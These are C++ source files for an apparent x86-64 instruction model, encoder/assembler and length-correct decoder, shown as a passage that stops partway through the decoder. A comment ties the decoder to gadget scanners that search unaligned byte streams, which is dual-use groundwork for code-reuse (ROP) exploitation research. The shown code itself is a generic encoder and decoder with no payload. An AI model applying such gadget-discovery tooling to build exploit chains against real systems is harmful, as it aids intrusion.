  CALL,      // direct (rel) or indirect (r/m)
  SYSCALL,
  LEAVE, NOP, INT3,
};
const char* mnemonic_name(Mnemonic m);

enum class OperandKind : u8 { NONE, REG, IMM, MEM };

/// Memory operand: [base + index*scale + disp]. base/index may be NONE.
/// rip_relative marks the x86-64 RIP-relative form (disp32 off next insn).
struct MemRef {
  Reg base = Reg::NONE;
  Reg index = Reg::NONE;
  u8 scale = 1;  // 1, 2, 4 or 8
  i32 disp = 0;
  bool rip_relative = false;

  bool operator==(const MemRef&) const = default;
};

struct Operand {
  OperandKind kind = OperandKind::NONE;
  Reg reg = Reg::NONE;  // REG
  i64 imm = 0;          // IMM (sign-extended to 64)
  MemRef mem;           // MEM

  static Operand none() { return {}; }
  static Operand r(Reg reg) {
    Operand o;
    o.kind = OperandKind::REG;
    o.reg = reg;
    return o;
  }
  static Operand i(i64 v) {
    Operand o;
    o.kind = OperandKind::IMM;
    o.imm = v;
    return o;
  }
  static Operand m(MemRef ref) {
    Operand o;
    o.kind = OperandKind::MEM;
    o.mem = ref;
    return o;
  }

  bool is_reg() const { return kind == OperandKind::REG; }
  bool is_imm() const { return kind == OperandKind::IMM; }
  bool is_mem() const { return kind == OperandKind::MEM; }
  bool operator==(const Operand&) const = default;
};

/// A decoded instruction. `size` is the operand size in bits (32 or 64 for
/// everything except `ret imm16`). `len` is the encoded length in bytes.
struct Inst {
  Mnemonic mnemonic = Mnemonic::NOP;
  Cond cond = Cond::O;  // JCC / CMOV
  u8 src_size = 0;      // MOVZX/MOVSX: source width in bits (8 or 16)
  Operand dst;          // also the single operand of 1-op forms
  Operand src;
  u8 size = 64;
  u8 len = 0;
  u64 addr = 0;  // address this instruction was decoded at

  bool is_terminator() const {
    switch (mnemonic) {
      case Mnemonic::RET:
      case Mnemonic::JMP:
      case Mnemonic::JCC:
      case Mnemonic::CALL:
      case Mnemonic::SYSCALL:
        return true;
      default:
        return false;
    }
  }

  /// For direct JMP/JCC/CALL: the absolute target (addr + len + rel).
  u64 direct_target() const { return addr + len + static_cast<u64>(dst.imm); }
};

/// Render an instruction in Intel syntax (e.g. "pop rax", "jne 0x401234").
std::string to_string(const Inst& inst);
std::string to_string(const Operand& op, unsigned bits);

}  // namespace gp::x86
