// Length-correct x86-64 decoder for the supported subset.
//
// decode() consumes bytes at an arbitrary offset — exactly how gadget
// scanners discover unaligned instruction streams — and returns std::nullopt
// for any byte sequence outside the supported subset (a scanner then treats
// that offset as not yielding a gadget, the same way real tools skip
// instructions their disassembler rejects).
#pragma once

#include <optional>
#include <span>
#include <vector>

#include "x86/inst.hpp"

namespace gp::x86 {

/// Decode one instruction from `bytes` (which starts at virtual address
/// `addr`). On success the returned Inst has len and addr filled in.
std::optional<Inst> decode(std::span<const u8> bytes, u64 addr);

/// Decode a straight-line run: instructions until (and including) the first
/// terminator, or until decoding fails / `max_insts` is reached. Returns an
/// empty vector if the first instruction fails to decode. If decoding fails
/// mid-run or no terminator is found, the run is returned without one (the
/// caller checks `back().is_terminator()`).
std::vector<Inst> decode_run(std::span<const u8> bytes, u64 addr,
                             int max_insts = 64);

}  // namespace gp::x86
