#include "x86/inst.hpp"

#include "support/str.hpp"

namespace gp::x86 {

const char* reg_name(Reg r, unsigned bits) {
  static const char* k64[] = {"rax", "rcx", "rdx", "rbx", "rsp", "rbp",
                              "rsi", "rdi", "r8",  "r9",  "r10", "r11",
                              "r12", "r13", "r14", "r15"};
  static const char* k32[] = {"eax",  "ecx",  "edx",  "ebx",  "esp",  "ebp",
                              "esi",  "edi",  "r8d",  "r9d",  "r10d", "r11d",
                              "r12d", "r13d", "r14d", "r15d"};
  if (r == Reg::NONE) return "<none>";
  const auto idx = static_cast<unsigned>(r);
  return bits == 32 ? k32[idx] : k64[idx];
}

const char* cond_name(Cond c) {
  static const char* names[] = {"o", "no", "b",  "ae", "e",  "ne", "be", "a",
                                "s", "ns", "p",  "np", "l",  "ge", "le", "g"};
  return names[static_cast<unsigned>(c)];
}

Cond negate(Cond c) {
  // Condition codes pair up: even cc and odd cc+1 are complements.
  return static_cast<Cond>(static_cast<u8>(c) ^ 1);
}

const char* mnemonic_name(Mnemonic m) {
  switch (m) {
    case Mnemonic::MOV: return "mov";
    case Mnemonic::MOVABS: return "movabs";
    case Mnemonic::LEA: return "lea";
    case Mnemonic::XCHG: return "xchg";
    case Mnemonic::MOVZX: return "movzx";
    case Mnemonic::MOVSX: return "movsx";
    case Mnemonic::CMOV: return "cmov";
    case Mnemonic::ADD: return "add";
    case Mnemonic::SUB: return "sub";
    case Mnemonic::AND: return "and";
    case Mnemonic::OR: return "or";
    case Mnemonic::XOR: return "xor";
    case Mnemonic::CMP: return "cmp";
    case Mnemonic::TEST: return "test";
    case Mnemonic::NOT: return "not";
    case Mnemonic::NEG: return "neg";
    case Mnemonic::INC: return "inc";
    case Mnemonic::DEC: return "dec";
    case Mnemonic::IMUL: return "imul";
    case Mnemonic::SHL: return "shl";
    case Mnemonic::SHR: return "shr";
    case Mnemonic::SAR: return "sar";
    case Mnemonic::PUSH: return "push";
    case Mnemonic::POP: return "pop";
    case Mnemonic::RET: return "ret";
    case Mnemonic::JMP: return "jmp";
    case Mnemonic::JCC: return "j";
    case Mnemonic::CALL: return "call";
    case Mnemonic::SYSCALL: return "syscall";
    case Mnemonic::LEAVE: return "leave";
    case Mnemonic::NOP: return "nop";
    case Mnemonic::INT3: return "int3";
  }
  return "<bad>";
}

std::string to_string(const Operand& op, unsigned bits) {
  switch (op.kind) {
    case OperandKind::NONE:
      return "";
    case OperandKind::REG:
      return reg_name(op.reg, bits);
    case OperandKind::IMM:
      return hex(static_cast<u64>(op.imm));
    case OperandKind::MEM: {
      std::string s = bits == 32 ? "dword ptr [" : "qword ptr [";
      bool first = true;
      if (op.mem.rip_relative) {
        s += "rip";
        first = false;
      } else if (op.mem.base != Reg::NONE) {
        s += reg_name(op.mem.base, 64);
        first = false;
      }
      if (op.mem.index != Reg::NONE) {
        if (!first) s += "+";
        s += reg_name(op.mem.index, 64);
        if (op.mem.scale != 1) s += "*" + std::to_string(op.mem.scale);
        first = false;
      }
      if (op.mem.disp != 0 || first) {
        if (!first && op.mem.disp >= 0) s += "+";
        s += std::to_string(op.mem.disp);
      }
      s += "]";
      return s;
    }
  }
  return "<bad>";
}

std::string to_string(const Inst& inst) {
  std::string s = mnemonic_name(inst.mnemonic);
  if (inst.mnemonic == Mnemonic::JCC || inst.mnemonic == Mnemonic::CMOV)
    s += cond_name(inst.cond);
  const bool direct_branch =
      (inst.mnemonic == Mnemonic::JMP || inst.mnemonic == Mnemonic::JCC ||
       inst.mnemonic == Mnemonic::CALL) &&
      inst.dst.is_imm();
  if (direct_branch) {
    return s + " " + hex(inst.direct_target());
  }
  if (inst.dst.kind != OperandKind::NONE) {
    s += " " + to_string(inst.dst, inst.size);
    if (inst.src.kind != OperandKind::NONE) {
      // LEA's source is an address expression, always shown with 64-bit regs.
      s += ", " + to_string(inst.src, inst.size);
    }
  }
  return s;
}

}  // namespace gp::x86
