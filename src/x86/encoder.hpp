// x86-64 machine-code encoder for the supported subset.
//
// Two layers:
//  - encode(Inst): pure function, one instruction -> bytes. Used for
//    round-trip tests against the decoder.
//  - Assembler: append-style code buffer with labels and rel32 fixups,
//    used by the code generator and hand-written test snippets.
#pragma once

#include <vector>

#include "x86/inst.hpp"

namespace gp::x86 {

/// Encode one instruction. The rel fields of direct branches are taken from
/// dst.imm verbatim (caller computes displacement). Throws gp::Error on
/// unencodable combinations.
std::vector<u8> encode(const Inst& inst);

class Assembler {
 public:
  /// Label handle. Labels are created unbound, bound once with bind(), and
  /// may be referenced before or after binding.
  using Label = int;

  Label new_label() {
    labels_.push_back(kUnbound);
    return static_cast<Label>(labels_.size()) - 1;
  }
  void bind(Label l);

  /// Raw emission.
  void raw(const std::vector<u8>& bytes);
  void byte(u8 b) { code_.push_back(b); }

  /// Emit a fully-formed instruction (no label operands).
  void emit(const Inst& inst);

  // -- Convenience builders (the forms codegen uses) --------------------
  void mov(Reg dst, Reg src, u8 size = 64);
  void mov_imm(Reg dst, i64 imm);      // movabs if it does not fit in imm32
  void mov_load(Reg dst, MemRef src, u8 size = 64);
  void mov_store(MemRef dst, Reg src, u8 size = 64);
  void mov_store_imm(MemRef dst, i32 imm, u8 size = 64);
  void lea(Reg dst, MemRef src);
  void alu(Mnemonic op, Reg dst, Reg src, u8 size = 64);  // ADD..CMP/TEST
  void alu_imm(Mnemonic op, Reg dst, i32 imm, u8 size = 64);
  void unary(Mnemonic op, Reg r, u8 size = 64);  // NOT/NEG/INC/DEC
  void imul(Reg dst, Reg src, u8 size = 64);
  void movzx_load(Reg dst, MemRef src, u8 src_size = 8);
  void movsx_load(Reg dst, MemRef src, u8 src_size = 8);
  void cmov(Cond c, Reg dst, Reg src, u8 size = 64);
  void shift_imm(Mnemonic op, Reg r, u8 amount, u8 size = 64);
  void shift_cl(Mnemonic op, Reg r, u8 size = 64);
  void push(Reg r);
  void push_imm(i32 imm);
  void pop(Reg r);
  void ret();
  void ret_imm(u16 imm);
  void syscall();
  void nop();
  void int3();
  void leave();
  void xchg(Reg a, Reg b, u8 size = 64);

  // -- Control flow with labels -----------------------------------------
  void jmp(Label target);
  void jcc(Cond c, Label target);
  void call(Label target);
  void jmp_reg(Reg r);
  void call_reg(Reg r);
  void jmp_mem(MemRef m);

  /// Direct branches to an absolute address (resolved immediately against
  /// the assembler's base address).
  void jmp_abs(u64 target);
  void call_abs(u64 target);

  /// Offset of a bound label within the code buffer (valid once bound).
  i64 label_offset(Label l) const {
    GP_CHECK(labels_[l] != kUnbound, "label_offset of unbound label");
    return labels_[l];
  }

  void set_base(u64 base) { base_ = base; }
  u64 base() const { return base_; }
  u64 here() const { return base_ + code_.size(); }
  size_t size() const { return code_.size(); }

  /// Finalize: patch all fixups. Throws if any label is unbound.
  std::vector<u8> finish();

 private:
  static constexpr i64 kUnbound = -1;
  struct Fixup {
    size_t pos;   // offset of the rel32 field
    Label label;  // target
  };

  void branch_to(Label target, const char* kind);

  std::vector<u8> code_;
  std::vector<i64> labels_;  // bound offset or kUnbound
  std::vector<Fixup> fixups_;
  u64 base_ = 0;
  bool finished_ = false;
};

}  // namespace gp::x86
