#include "x86/encoder.hpp"

#include "support/str.hpp"

namespace gp::x86 {
namespace {

constexpr u8 kRexBase = 0x40;

u8 lo3(Reg r) { return static_cast<u8>(r) & 7; }
bool ext(Reg r) { return r != Reg::NONE && static_cast<u8>(r) >= 8; }

void put_u16(std::vector<u8>& out, u16 v) {
  out.push_back(static_cast<u8>(v));
  out.push_back(static_cast<u8>(v >> 8));
}
void put_u32(std::vector<u8>& out, u32 v) {
  for (int i = 0; i < 4; ++i) out.push_back(static_cast<u8>(v >> (8 * i)));
}
void put_u64(std::vector<u8>& out, u64 v) {
  for (int i = 0; i < 8; ++i) out.push_back(static_cast<u8>(v >> (8 * i)));
}

bool fits_i8(i64 v) { return v >= -128 && v <= 127; }
bool fits_i32(i64 v) {
  return v >= INT32_MIN && v <= INT32_MAX;
}

/// Emit [REX] <opcode bytes> ModRM [SIB] [disp] encoding `reg_field` in
/// ModRM.reg and `rm` (register or memory operand) in ModRM.rm.
/// `wide` sets REX.W.
void emit_modrm(std::vector<u8>& out, bool wide,
                const std::vector<u8>& opcode, u8 reg_field, bool reg_ext,
                const Operand& rm) {
  u8 rex = kRexBase;
  if (wide) rex |= 0x08;
  if (reg_ext) rex |= 0x04;  // REX.R

  if (rm.is_reg()) {
    if (ext(rm.reg)) rex |= 0x01;  // REX.B
    if (rex != kRexBase || wide) out.push_back(rex);
    out.insert(out.end(), opcode.begin(), opcode.end());
    out.push_back(static_cast<u8>(0xC0 | (reg_field << 3) | lo3(rm.reg)));
    return;
  }

  GP_CHECK(rm.is_mem(), "emit_modrm: rm must be reg or mem");
  const MemRef& m = rm.mem;
  GP_CHECK(m.index != Reg::RSP, "rsp cannot be an index register");
  GP_CHECK(m.scale == 1 || m.scale == 2 || m.scale == 4 || m.scale == 8,
           "bad scale");

  if (m.rip_relative) {
    if (rex != kRexBase || wide) out.push_back(rex);
    out.insert(out.end(), opcode.begin(), opcode.end());
    out.push_back(static_cast<u8>((reg_field << 3) | 0x05));  // mod=00 rm=101
    put_u32(out, static_cast<u32>(m.disp));
    return;
  }

  const bool need_sib = m.index != Reg::NONE || m.base == Reg::NONE ||
                        m.base == Reg::RSP || m.base == Reg::R12;

  // mod: 00 (no disp), 01 (disp8), 10 (disp32). Base RBP/R13 cannot use
  // mod 00 (that encoding means RIP-rel / disp32), so force disp8.
  u8 mod;
  bool base_needs_disp =
      m.base == Reg::RBP || m.base == Reg::R13;
  if (m.base == Reg::NONE) {
    mod = 0;  // SIB with base=101 and disp32
  } else if (m.disp == 0 && !base_needs_disp) {
    mod = 0;
  } else if (fits_i8(m.disp)) {
    mod = 1;
  } else {
    mod = 2;
  }

  if (ext(m.base)) rex |= 0x01;   // REX.B
  if (ext(m.index)) rex |= 0x02;  // REX.X
  if (rex != kRexBase || wide) out.push_back(rex);
  out.insert(out.end(), opcode.begin(), opcode.end());

  if (need_sib) {
    out.push_back(static_cast<u8>((mod << 6) | (reg_field << 3) | 0x04));
    u8 scale_bits = m.scale == 1 ? 0 : m.scale == 2 ? 1 : m.scale == 4 ? 2 : 3;
    u8 index_bits = m.index == Reg::NONE ? 4 : lo3(m.index);
    u8 base_bits = m.base == Reg::NONE ? 5 : lo3(m.base);
    out.push_back(static_cast<u8>((scale_bits << 6) | (index_bits << 3) |
                                  base_bits));
    if (m.base == Reg::NONE) {
      put_u32(out, static_cast<u32>(m.disp));  // mod=00 base=101: disp32
      return;
    }
  } else {
    out.push_back(static_cast<u8>((mod << 6) | (reg_field << 3) |
                                  lo3(m.base)));
  }

  if (mod == 1) out.push_back(static_cast<u8>(static_cast<i8>(m.disp)));
  if (mod == 2) put_u32(out, static_cast<u32>(m.disp));
}

struct AluInfo {
  u8 op_mr;   // op r/m, r
  u8 op_rm;   // op r, r/m
  u8 ext;     // /ext for the 0x81 / 0x83 imm forms
};

std::optional<AluInfo> alu_info(Mnemonic m) {
  switch (m) {
    case Mnemonic::ADD: return AluInfo{0x01, 0x03, 0};
    case Mnemonic::OR: return AluInfo{0x09, 0x0B, 1};
    case Mnemonic::AND: return AluInfo{0x21, 0x23, 4};
    case Mnemonic::SUB: return AluInfo{0x29, 0x2B, 5};
    case Mnemonic::XOR: return AluInfo{0x31, 0x33, 6};
    case Mnemonic::CMP: return AluInfo{0x39, 0x3B, 7};
    default: return std::nullopt;
  }
}

u8 shift_ext(Mnemonic m) {
  switch (m) {
    case Mnemonic::SHL: return 4;
    case Mnemonic::SHR: return 5;
    case Mnemonic::SAR: return 7;
    default: fail("not a shift");
  }
}

}  // namespace

std::vector<u8> encode(const Inst& inst) {
  std::vector<u8> out;
  const bool wide = inst.size == 64;
  const Operand& d = inst.dst;
  const Operand& s = inst.src;

  switch (inst.mnemonic) {
    case Mnemonic::MOV:
      if (d.is_reg() && s.is_imm() && !wide) {
        // B8+r imm32
        if (ext(d.reg)) out.push_back(kRexBase | 0x01);
        out.push_back(static_cast<u8>(0xB8 | lo3(d.reg)));
        put_u32(out, static_cast<u32>(s.imm));
        return out;
      }
      if ((d.is_reg() || d.is_mem()) && s.is_imm()) {
        GP_CHECK(fits_i32(s.imm), "mov imm32 overflow; use MOVABS");
        emit_modrm(out, wide, {0xC7}, 0, false, d);
        put_u32(out, static_cast<u32>(s.imm));
        return out;
      }
      if (s.is_reg()) {  // mov r/m, r
        emit_modrm(out, wide, {0x89}, lo3(s.reg), ext(s.reg), d);
        return out;
      }
      if (d.is_reg() && s.is_mem()) {  // mov r, r/m
        emit_modrm(out, wide, {0x8B}, lo3(d.reg), ext(d.reg), s);
        return out;
      }
      fail("bad mov operands");

    case Mnemonic::MOVABS: {
      GP_CHECK(d.is_reg() && s.is_imm(), "movabs needs reg, imm64");
      u8 rex = kRexBase | 0x08;
      if (ext(d.reg)) rex |= 0x01;
      out.push_back(rex);
      out.push_back(static_cast<u8>(0xB8 | lo3(d.reg)));
      put_u64(out, static_cast<u64>(s.imm));
      return out;
    }

    case Mnemonic::LEA:
      GP_CHECK(d.is_reg() && s.is_mem(), "lea needs reg, mem");
      emit_modrm(out, wide, {0x8D}, lo3(d.reg), ext(d.reg), s);
      return out;

    case Mnemonic::XCHG:
      GP_CHECK(s.is_reg(), "xchg src must be reg");
      emit_modrm(out, wide, {0x87}, lo3(s.reg), ext(s.reg), d);
      return out;

    case Mnemonic::MOVZX:
    case Mnemonic::MOVSX: {
      GP_CHECK(d.is_reg(), "movzx/movsx dst must be reg");
      GP_CHECK(inst.src_size == 8 || inst.src_size == 16,
               "movzx/movsx src_size must be 8 or 16");
      const bool sx = inst.mnemonic == Mnemonic::MOVSX;
      const u8 op2 = inst.src_size == 8 ? (sx ? 0xBE : 0xB6)
                                        : (sx ? 0xBF : 0xB7);
      emit_modrm(out, wide, {0x0F, op2}, lo3(d.reg), ext(d.reg), s);
      return out;
    }

    case Mnemonic::CMOV:
      GP_CHECK(d.is_reg(), "cmov dst must be reg");
      emit_modrm(out, wide,
                 {0x0F, static_cast<u8>(0x40 | static_cast<u8>(inst.cond))},
                 lo3(d.reg), ext(d.reg), s);
      return out;

    case Mnemonic::ADD:
    case Mnemonic::OR:
    case Mnemonic::AND:
    case Mnemonic::SUB:
    case Mnemonic::XOR:
    case Mnemonic::CMP: {
      auto info = *alu_info(inst.mnemonic);
      if (s.is_imm()) {
        if (fits_i8(s.imm)) {
          emit_modrm(out, wide, {0x83}, info.ext, false, d);
          out.push_back(static_cast<u8>(static_cast<i8>(s.imm)));
        } else {
          GP_CHECK(fits_i32(s.imm), "alu imm32 overflow");
          emit_modrm(out, wide, {0x81}, info.ext, false, d);
          put_u32(out, static_cast<u32>(s.imm));
        }
        return out;
      }
      if (s.is_reg()) {  // op r/m, r
        emit_modrm(out, wide, {info.op_mr}, lo3(s.reg), ext(s.reg), d);
        return out;
      }
      GP_CHECK(d.is_reg() && s.is_mem(), "alu operands");
      emit_modrm(out, wide, {info.op_rm}, lo3(d.reg), ext(d.reg), s);
      return out;
    }

    case Mnemonic::TEST:
      if (s.is_imm()) {
        GP_CHECK(fits_i32(s.imm), "test imm32 overflow");
        emit_modrm(out, wide, {0xF7}, 0, false, d);
        put_u32(out, static_cast<u32>(s.imm));
        return out;
      }
      GP_CHECK(s.is_reg(), "test src must be reg/imm");
      emit_modrm(out, wide, {0x85}, lo3(s.reg), ext(s.reg), d);
      return out;

    case Mnemonic::NOT:
      emit_modrm(out, wide, {0xF7}, 2, false, d);
      return out;
    case Mnemonic::NEG:
      emit_modrm(out, wide, {0xF7}, 3, false, d);
      return out;
    case Mnemonic::INC:
      emit_modrm(out, wide, {0xFF}, 0, false, d);
      return out;
    case Mnemonic::DEC:
      emit_modrm(out, wide, {0xFF}, 1, false, d);
      return out;

    case Mnemonic::IMUL:
      GP_CHECK(d.is_reg(), "imul dst must be reg");
      emit_modrm(out, wide, {0x0F, 0xAF}, lo3(d.reg), ext(d.reg), s);
      return out;

    case Mnemonic::SHL:
    case Mnemonic::SHR:
    case Mnemonic::SAR: {
      const u8 e = shift_ext(inst.mnemonic);
      if (s.is_imm()) {
        if (s.imm == 1) {
          emit_modrm(out, wide, {0xD1}, e, false, d);
        } else {
          emit_modrm(out, wide, {0xC1}, e, false, d);
          out.push_back(static_cast<u8>(s.imm));
        }
      } else {
        GP_CHECK(s.is_reg() && s.reg == Reg::RCX, "shift count must be cl");
        emit_modrm(out, wide, {0xD3}, e, false, d);
      }
      return out;
    }

    case Mnemonic::PUSH:
      if (d.is_imm()) {
        GP_CHECK(fits_i32(d.imm), "push imm32 overflow");
        out.push_back(0x68);
        put_u32(out, static_cast<u32>(d.imm));
        return out;
      }
      if (d.is_reg()) {
        if (ext(d.reg)) out.push_back(kRexBase | 0x01);
        out.push_back(static_cast<u8>(0x50 | lo3(d.reg)));
        return out;
      }
      emit_modrm(out, false, {0xFF}, 6, false, d);
      return out;

    case Mnemonic::POP:
      if (d.is_reg()) {
        if (ext(d.reg)) out.push_back(kRexBase | 0x01);
        out.push_back(static_cast<u8>(0x58 | lo3(d.reg)));
        return out;
      }
      emit_modrm(out, false, {0x8F}, 0, false, d);
      return out;

    case Mnemonic::RET:
      if (d.is_imm() && d.imm != 0) {
        out.push_back(0xC2);
        put_u16(out, static_cast<u16>(d.imm));
      } else {
        out.push_back(0xC3);
      }
      return out;

    case Mnemonic::JMP:
      if (d.is_imm()) {
        out.push_back(0xE9);
        put_u32(out, static_cast<u32>(d.imm));
        return out;
      }
      emit_modrm(out, false, {0xFF}, 4, false, d);
      return out;

    case Mnemonic::JCC:
      GP_CHECK(d.is_imm(), "jcc must be direct");
      out.push_back(0x0F);
      out.push_back(static_cast<u8>(0x80 | static_cast<u8>(inst.cond)));
      put_u32(out, static_cast<u32>(d.imm));
      return out;

    case Mnemonic::CALL:
      if (d.is_imm()) {
        out.push_back(0xE8);
        put_u32(out, static_cast<u32>(d.imm));
        return out;
      }
      emit_modrm(out, false, {0xFF}, 2, false, d);
      return out;

    case Mnemonic::SYSCALL:
      out.push_back(0x0F);
      out.push_back(0x05);
      return out;
    case Mnemonic::LEAVE:
      out.push_back(0xC9);
      return out;
    case Mnemonic::NOP:
      out.push_back(0x90);
      return out;
    case Mnemonic::INT3:
      out.push_back(0xCC);
      return out;
  }
  fail("unencodable instruction");
}

// ---------------------------------------------------------------------------
// Assembler
// ---------------------------------------------------------------------------

void Assembler::bind(Label l) {
  GP_CHECK(l >= 0 && static_cast<size_t>(l) < labels_.size(), "bad label");
  GP_CHECK(labels_[l] == kUnbound, "label bound twice");
  labels_[l] = static_cast<i64>(code_.size());
}

void Assembler::raw(const std::vector<u8>& bytes) {
  code_.insert(code_.end(), bytes.begin(), bytes.end());
}

void Assembler::emit(const Inst& inst) { raw(encode(inst)); }

void Assembler::mov(Reg dst, Reg src, u8 size) {
  emit({.mnemonic = Mnemonic::MOV, .dst = Operand::r(dst),
        .src = Operand::r(src), .size = size});
}

void Assembler::mov_imm(Reg dst, i64 imm) {
  if (imm >= INT32_MIN && imm <= INT32_MAX) {
    emit({.mnemonic = Mnemonic::MOV, .dst = Operand::r(dst),
          .src = Operand::i(imm), .size = 64});
  } else {
    emit({.mnemonic = Mnemonic::MOVABS, .dst = Operand::r(dst),
          .src = Operand::i(imm), .size = 64});
  }
}

void Assembler::mov_load(Reg dst, MemRef src, u8 size) {
  emit({.mnemonic = Mnemonic::MOV, .dst = Operand::r(dst),
        .src = Operand::m(src), .size = size});
}

void Assembler::mov_store(MemRef dst, Reg src, u8 size) {
  emit({.mnemonic = Mnemonic::MOV, .dst = Operand::m(dst),
        .src = Operand::r(src), .size = size});
}

void Assembler::mov_store_imm(MemRef dst, i32 imm, u8 size) {
  emit({.mnemonic = Mnemonic::MOV, .dst = Operand::m(dst),
        .src = Operand::i(imm), .size = size});
}

void Assembler::lea(Reg dst, MemRef src) {
  emit({.mnemonic = Mnemonic::LEA, .dst = Operand::r(dst),
        .src = Operand::m(src), .size = 64});
}

void Assembler::alu(Mnemonic op, Reg dst, Reg src, u8 size) {
  emit({.mnemonic = op, .dst = Operand::r(dst), .src = Operand::r(src),
        .size = size});
}

void Assembler::alu_imm(Mnemonic op, Reg dst, i32 imm, u8 size) {
  emit({.mnemonic = op, .dst = Operand::r(dst), .src = Operand::i(imm),
        .size = size});
}

void Assembler::unary(Mnemonic op, Reg r, u8 size) {
  emit({.mnemonic = op, .dst = Operand::r(r), .size = size});
}

void Assembler::imul(Reg dst, Reg src, u8 size) {
  emit({.mnemonic = Mnemonic::IMUL, .dst = Operand::r(dst),
        .src = Operand::r(src), .size = size});
}

void Assembler::movzx_load(Reg dst, MemRef src, u8 src_size) {
  emit({.mnemonic = Mnemonic::MOVZX, .src_size = src_size,
        .dst = Operand::r(dst), .src = Operand::m(src), .size = 64});
}

void Assembler::movsx_load(Reg dst, MemRef src, u8 src_size) {
  emit({.mnemonic = Mnemonic::MOVSX, .src_size = src_size,
        .dst = Operand::r(dst), .src = Operand::m(src), .size = 64});
}

void Assembler::cmov(Cond c, Reg dst, Reg src, u8 size) {
  emit({.mnemonic = Mnemonic::CMOV, .cond = c, .dst = Operand::r(dst),
        .src = Operand::r(src), .size = size});
}

void Assembler::shift_imm(Mnemonic op, Reg r, u8 amount, u8 size) {
  emit({.mnemonic = op, .dst = Operand::r(r), .src = Operand::i(amount),
        .size = size});
}

void Assembler::shift_cl(Mnemonic op, Reg r, u8 size) {
  emit({.mnemonic = op, .dst = Operand::r(r), .src = Operand::r(Reg::RCX),
        .size = size});
}

void Assembler::push(Reg r) {
  emit({.mnemonic = Mnemonic::PUSH, .dst = Operand::r(r)});
}
void Assembler::push_imm(i32 imm) {
  emit({.mnemonic = Mnemonic::PUSH, .dst = Operand::i(imm)});
}
void Assembler::pop(Reg r) {
  emit({.mnemonic = Mnemonic::POP, .dst = Operand::r(r)});
}
void Assembler::ret() { emit({.mnemonic = Mnemonic::RET}); }
void Assembler::ret_imm(u16 imm) {
  emit({.mnemonic = Mnemonic::RET, .dst = Operand::i(imm)});
}
void Assembler::syscall() { emit({.mnemonic = Mnemonic::SYSCALL}); }
void Assembler::nop() { emit({.mnemonic = Mnemonic::NOP}); }
void Assembler::int3() { emit({.mnemonic = Mnemonic::INT3}); }
void Assembler::leave() { emit({.mnemonic = Mnemonic::LEAVE}); }
void Assembler::xchg(Reg a, Reg b, u8 size) {
  emit({.mnemonic = Mnemonic::XCHG, .dst = Operand::r(a),
        .src = Operand::r(b), .size = size});
}

void Assembler::branch_to(Label target, const char* kind) {
  // The rel32 field was just emitted as a placeholder at code_.size()-4.
  (void)kind;
  fixups_.push_back({code_.size() - 4, target});
}

void Assembler::jmp(Label target) {
  byte(0xE9);
  for (int i = 0; i < 4; ++i) byte(0);
  branch_to(target, "jmp");
}

void Assembler::jcc(Cond c, Label target) {
  byte(0x0F);
  byte(static_cast<u8>(0x80 | static_cast<u8>(c)));
  for (int i = 0; i < 4; ++i) byte(0);
  branch_to(target, "jcc");
}

void Assembler::call(Label target) {
  byte(0xE8);
  for (int i = 0; i < 4; ++i) byte(0);
  branch_to(target, "call");
}

void Assembler::jmp_reg(Reg r) {
  emit({.mnemonic = Mnemonic::JMP, .dst = Operand::r(r)});
}
void Assembler::call_reg(Reg r) {
  emit({.mnemonic = Mnemonic::CALL, .dst = Operand::r(r)});
}
void Assembler::jmp_mem(MemRef m) {
  emit({.mnemonic = Mnemonic::JMP, .dst = Operand::m(m)});
}

void Assembler::jmp_abs(u64 target) {
  const i64 rel = static_cast<i64>(target) -
                  static_cast<i64>(here() + 5);
  GP_CHECK(rel >= INT32_MIN && rel <= INT32_MAX, "jmp_abs out of range");
  emit({.mnemonic = Mnemonic::JMP, .dst = Operand::i(rel)});
}

void Assembler::call_abs(u64 target) {
  const i64 rel = static_cast<i64>(target) -
                  static_cast<i64>(here() + 5);
  GP_CHECK(rel >= INT32_MIN && rel <= INT32_MAX, "call_abs out of range");
  emit({.mnemonic = Mnemonic::CALL, .dst = Operand::i(rel)});
}

std::vector<u8> Assembler::finish() {
  GP_CHECK(!finished_, "Assembler::finish called twice");
  finished_ = true;
  for (const Fixup& f : fixups_) {
    GP_CHECK(labels_[f.label] != kUnbound, "unbound label at finish");
    const i64 rel = labels_[f.label] - static_cast<i64>(f.pos + 4);
    GP_CHECK(rel >= INT32_MIN && rel <= INT32_MAX, "fixup out of range");
    const u32 v = static_cast<u32>(rel);
    for (int i = 0; i < 4; ++i)
      code_[f.pos + i] = static_cast<u8>(v >> (8 * i));
  }
  return std::move(code_);
}

}  // namespace gp::x86
