#include "x86/decoder.hpp"

#include "support/fault.hpp"
#include "support/metrics.hpp"

namespace gp::x86 {
namespace {

/// Byte cursor over the input with bounds-checked reads. All read_* return
/// false / nullopt via the ok flag when the buffer runs out.
class Cursor {
 public:
  explicit Cursor(std::span<const u8> bytes) : bytes_(bytes) {}

  bool ok() const { return ok_; }
  size_t pos() const { return pos_; }

  u8 u8v() {
    if (pos_ >= bytes_.size()) {
      ok_ = false;
      return 0;
    }
    return bytes_[pos_++];
  }
  u8 peek() const { return pos_ < bytes_.size() ? bytes_[pos_] : 0; }
  bool at_end() const { return pos_ >= bytes_.size(); }

  u16 u16v() {
    u16 v = u8v();
    v |= static_cast<u16>(u8v()) << 8;
    return v;
  }
  u32 u32v() {
    u32 v = 0;
    for (int i = 0; i < 4; ++i) v |= static_cast<u32>(u8v()) << (8 * i);
    return v;
  }
  u64 u64v() {
    u64 v = 0;
    for (int i = 0; i < 8; ++i) v |= static_cast<u64>(u8v()) << (8 * i);
    return v;
  }
  i64 i8s() { return static_cast<i8>(u8v()); }
  i64 i32s() { return static_cast<i32>(u32v()); }

 private:
  std::span<const u8> bytes_;
  size_t pos_ = 0;
  bool ok_ = true;
};

struct Rex {
  bool present = false;
  bool w = false, r = false, x = false, b = false;
};

Reg make_reg(u8 lo3, bool ext) {
  return static_cast<Reg>(lo3 | (ext ? 8 : 0));
}

/// Decoded ModRM byte: reg field plus the r/m operand.
struct ModRm {
  u8 reg_field;
  Reg reg;      // the register named by the reg field
  Operand rm;   // the r/m operand (REG or MEM)
};

std::optional<ModRm> read_modrm(Cursor& c, const Rex& rex) {
  const u8 modrm = c.u8v();
  if (!c.ok()) return std::nullopt;
  const u8 mod = modrm >> 6;
  const u8 reg = (modrm >> 3) & 7;
  const u8 rm = modrm & 7;

  ModRm out;
  out.reg_field = reg;
  out.reg = make_reg(reg, rex.r);

  if (mod == 3) {
    out.rm = Operand::r(make_reg(rm, rex.b));
    return out;
  }

  MemRef m;
  if (rm == 4) {
    // SIB byte follows.
